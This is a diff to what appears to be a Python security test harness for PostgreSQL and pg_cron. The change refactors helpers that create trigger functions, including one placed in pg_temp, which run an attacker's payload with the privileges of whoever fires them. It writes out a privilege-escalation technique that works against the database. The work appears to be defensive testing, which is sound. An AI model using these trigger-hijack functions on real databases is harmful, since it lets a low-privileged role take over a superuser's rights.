@@ -115,15 +115,20 @@ def arm_pg_temp_domains(
     assert su.execute(count, (attacker,)).fetchone() != before, "the pg_temp domains do not fire"
 
 
-def create_pg_temp_trigger_function(conn: Conn, attacker: str) -> str:
-    """As the attacker on conn: a trigger function in pg_temp that runs the attack payload.
-    It needs no CREATE on any schema, and it fires in every session while conn is open."""
-    name = "pg_temp.scheduler_attack_trigger"
+def create_trigger_function(conn: Conn, name: str, attacker: str) -> str:
+    """As the role of conn: a security-invoker trigger function that runs the attack payload
+    with the rights of whoever fires it."""
     conn.execute(
         f"create function {name}() returns trigger language plpgsql as $attack$ "
         f"begin {_payload(attacker)} return new; end $attack$"
     )
     return name
+
+
+def create_pg_temp_trigger_function(conn: Conn, attacker: str) -> str:
+    """As the attacker on conn: a trigger function in pg_temp that runs the attack payload.
+    It needs no CREATE on any schema, and it fires in every session while conn is open."""
+    return create_trigger_function(conn, "pg_temp.scheduler_attack_trigger", attacker)
 
 
 def run_job_as_pg_cron(su: Conn, dsn_of: Callable[[str], str], jobname: str) -> str:
